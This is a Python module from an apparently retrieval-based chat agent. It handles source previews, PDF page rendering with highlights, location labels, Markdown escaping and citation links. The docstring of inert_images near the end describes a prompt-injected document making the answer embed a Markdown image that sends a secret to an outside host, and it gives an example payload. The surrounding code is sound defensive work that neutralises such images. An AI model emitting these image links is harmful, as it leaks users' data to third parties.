"""Sources under an answer: the stored PDF, the cited page as an image, safe Markdown."""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import Any

from agent._files import safe_file_name
from agent.app.i18n import t
from agent.chat.citations import MARKER_RE, marker_numbers
from agent.errors import AgentError
from agent.ingest import formats
from agent.ingest._pdf_open import PDFIUM_LOCK
from agent.search.retrieval import Source

IMAGE_SUFFIXES = (".png", ".jpg", ".jpeg")
PAGE_IMAGE_WIDTH = 900
MAX_PAGE_PIXELS = 4_000_000  # a 1 x 1000 pt page at 900 px wide would be 900 x 900,000 pixels (5.5 GB)


def source_doc_id(source: Source) -> str:
    """The document hash of a source (chunk ids are `<doc_id>:<page>:<i>`)."""
    return str(source.get("doc_id") or str(source.get("chunk_id") or "").split(":", 1)[0])


def source_pdf(collections: list[Any], source: Source) -> Path | None:
    """The stored copy of the PDF a source comes from, if it is still indexed."""
    doc_id = source_doc_id(source)
    for collection in collections:
        path = collection.stored_file(doc_id) if doc_id else None
        if path is None:
            match = next((i for i in collection.document_infos() if i.file == source.get("file")), None)
            path = collection.stored_file(match.doc_id) if match else None
        if path is not None and path.exists():
            return path
    return None


def is_image_source(source: Source) -> bool:
    """Whether a source is a PNG/JPEG picture (its preview is the picture; indexes from before the "image"
    location said "page", so for them the file name decides)."""
    kind = source.get("loc_kind", "page")
    return kind == "image" or (kind == "page" and Path(str(source.get("file", ""))).suffix.lower() in IMAGE_SUFFIXES)


def preview_key(source: Source) -> str:
    """The string key of a source's preview toggle: a PDF shows its page, a picture itself, any other format its section."""
    if is_image_source(source):
        return "show_image"
    return "show_page" if source.get("loc_kind", "page") == "page" else "show_section"


Box = tuple[float, float, float, float]  # left, top, right, bottom in PDF points from the top-left


def page_label(source: Source, lang: str = "en") -> str:
    """"p. 22 (PDF page 26)" where the PDF prints another number on the page, else "p. 26"."""
    page = source.get("page", "?")
    kind = source.get("loc_kind", "page")
    if is_image_source(source):
        return t("loc_image", lang)
    if kind == "slide":
        return t("loc_slide", lang, n=page)
    if kind == "lines":
        return t("loc_lines", lang, start=source.get("line_start", "?"), end=source.get("line_end", "?"))
    if kind == "section":
        return _section_label(source, lang)
    label = source.get("page_label")
    return t("page_labelled", lang, label=label, page=page) if label else t("page_short", lang, page=page)


def _section_label(source: Source, lang: str) -> str:
    """"Install > Wiring, ¶ 2–3" (DOCX/HTML/EPUB) or "Install, lines 4–9" (Markdown): heading path, then where in it."""
    where = source.get("heading") or t("loc_section", lang, n=source.get("page", "?"))
    start, end = source.get("para_start"), source.get("para_end")
    if start:
        inside = t("loc_para", lang, n=start) if end in (None, start) else t("loc_paras", lang, start=start, end=end)
    elif source.get("line_start"):
        inside = t("loc_lines", lang, start=source["line_start"], end=source.get("line_end", "?"))
    else:
        return where
    return t("loc_at", lang, where=where, inside=inside)


def highlight_boxes(pdf_page: Any, text: str) -> list[Box]:
    """Rectangles (one per line) covering `text` on a PDFium page: where the chunk's characters
    are in the page's text layer. Whitespace is ignored on both sides; [] when not found (OCR)."""
    textpage = pdf_page.get_textpage()
    try:
        chars = textpage.get_text_range()
        kept = [i for i, ch in enumerate(chars) if not ch.isspace()]
        squeezed = "".join(chars[i] for i in kept)
        start, end = _span(squeezed, "".join(text.split()))
        if start < 0:
            return []
        height = pdf_page.get_height()
        boxes = [textpage.get_charbox(i) for i in kept[start:end]]
    finally:
        textpage.close()
    return _lines([(left, height - top, right, height - bottom) for left, bottom, right, top in boxes])


def _span(page: str, wanted: str, ends: int = 40) -> tuple[int, int]:
    """Where `wanted` is in `page` (both without whitespace): exactly, or from its first to its
    last `ends` characters when cleaning changed something in between; (-1, -1) if not."""
    start = page.find(wanted) if wanted else -1
    if start >= 0:
        return start, start + len(wanted)
    start = page.find(wanted[:ends])
    end = page.find(wanted[-ends:], max(start, 0)) + len(wanted[-ends:])
    if start < 0 or end < start + len(wanted) // 2 or end - start > 2 * len(wanted):
        return -1, -1
    return start, end


def _lines(boxes: list[Box]) -> list[Box]:
    """Character boxes merged into one rectangle per run on the same line."""
    out: list[list[float]] = []
    for left, top, right, bottom in boxes:
        last = out[-1] if out else None
        if last and abs(top - last[1]) < (bottom - top) / 2 and left >= last[0] - 1:
            last[1], last[2], last[3] = min(last[1], top), max(last[2], right), max(last[3], bottom)
        else:
            out.append([left, top, right, bottom])
    return [(a, b, c, d) for a, b, c, d in out]


def render_page_png(pdf: Path | str, page: int, width: int = PAGE_IMAGE_WIDTH, highlight: str = "") -> bytes:
    """PNG of one page (1-based number) rendered with pypdfium2, `width` pixels wide, with the
    lines holding `highlight` (a chunk's text) marked by a translucent yellow fill."""
    import io

    import pypdfium2 as pdfium
    from PIL import Image, ImageDraw

    with PDFIUM_LOCK:
        document = pdfium.PdfDocument(str(pdf))
        try:
            if not 1 <= page <= len(document):
                raise AgentError(f"Page {page} is not in {Path(pdf).name} ({len(document)} pages).")
            pdf_page = document[page - 1]
            scale = _scale(pdf_page.get_width(), pdf_page.get_height(), width)
            image = pdf_page.render(scale=scale).to_pil().convert("RGBA")
            boxes = highlight_boxes(pdf_page, highlight) if highlight else []
        finally:
            document.close()
    if boxes:
        overlay = Image.new("RGBA", image.size, (0, 0, 0, 0))
        draw = ImageDraw.Draw(overlay)
        for left, top, right, bottom in boxes:
            draw.rectangle([left * scale - 2, top * scale - 2, right * scale + 2, bottom * scale + 2],
                           fill=(255, 214, 0, 90))
        image = Image.alpha_composite(image, overlay)
    buffer = io.BytesIO()
    image.convert("RGB").save(buffer, format="PNG")
    return buffer.getvalue()


def _scale(page_width: float, page_height: float, width: int) -> float:
    """`width` pixels across, unless that makes more than MAX_PAGE_PIXELS (a tall, thin page)."""
    page_width, page_height = max(page_width, 1.0), max(page_height, 1.0)
    scale = width / page_width
    return min(scale, (MAX_PAGE_PIXELS / (page_width * page_height)) ** 0.5)


_MD_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~$])")


PREVIEW_MAX_BYTES = 4096 * 1024 * 1024  # the stored copy passed the upload limit when it was indexed


def section_preview(stored: Path, source: Source) -> tuple[str, tuple[int, int]]:
    """A non-PDF source's whole section (slide, lines, heading section) and where its passage is in it;
    the span is (-1, -1) when the passage cannot be found (the file changed its reader since indexing)."""
    _kind, sections = formats.read_sections(stored, stored.name, PREVIEW_MAX_BYTES)
    number = int(source.get("page", 0))
    section = next((s for s in sections if s.number == number), None)
    if section is None:
        return "", (-1, -1)
    text = section.text
    passage = source.get("text", "")
    start = text.find(passage) if passage else -1
    return text, ((start, start + len(passage)) if start >= 0 else (-1, -1))


def section_markdown(stored: Path, source: Source) -> str:
    """The section preview as Markdown, the passage on a highlighted background (the Chat page shows it)."""
    text, (start, end) = section_preview(stored, source)
    if start < 0:
        return md_escape(text)
    return f"{md_escape(text[:start])}:orange-background[{md_escape(text[start:end])}]{md_escape(text[end:])}"


def md_escape(text: str) -> str:
    """Text shown literally inside Markdown (file names in source headers)."""
    return _MD_SPECIAL.sub(r"\\\1", text)


def source_anchor(key: str, number: int) -> str:
    """The HTML id of source `number` under the answer `key` (what a [n] link jumps to)."""
    return f"source-{safe_file_name(key, default='answer')}-{number}".replace(".", "-")


def link_citations(text: str, sources: list[Source], key: str, lang: str = "en") -> str:
    """Answer Markdown whose [n] markers link to their sources (file and page on hover); a marker
    that matches no excerpt is struck through, so it never reads as a citation."""
    by_number = {s["number"]: s for s in sources if "number" in s}

    def one(number: int) -> str:
        source = by_number.get(number)
        if source is None:
            return f"~~\\[{number}\\]~~"
        hover = f"{source.get('file', '')} {page_label(source, lang)}".replace('"', "'")
        return f'[\\[{number}\\]](#{source_anchor(key, number)} "{hover}")'

    return MARKER_RE.sub(lambda m: "".join(one(n) for n in marker_numbers(m)), text)


def inert_images(markdown: str) -> str:
    """Answer Markdown that makes the browser fetch nothing: `![` becomes `&#33;[`, so an image a
    prompt-injected document asks for (`![x](http://host/?q=secret)`) shows as a plain link."""
    return markdown.replace("![", "&#33;[")


def inert_stream(pieces: Iterable[str]) -> Iterator[str]:
    """`inert_images` over streamed pieces: a piece ending in "!" waits for the next one, so an
    image marker split across two pieces is caught too."""
    held = ""
    for piece in pieces:
        text = held + piece
        text, held = (text[:-1], "!") if text.endswith("!") else (text, "")
        if text:
            yield inert_images(text)
    if held:
        yield held


def excerpt(text: str, limit: int = 700) -> str:
    """A source's text for display: whitespace runs folded, cut at `limit` characters."""
    text = " ".join(str(text).split())
    return text if len(text) <= limit else text[: limit - 1].rstrip() + "…"


def export_file_name(title: str, conversation_id: str) -> str:
    return safe_file_name(f"{title[:40] or 'conversation'}-{conversation_id}.md", default="conversation.md")
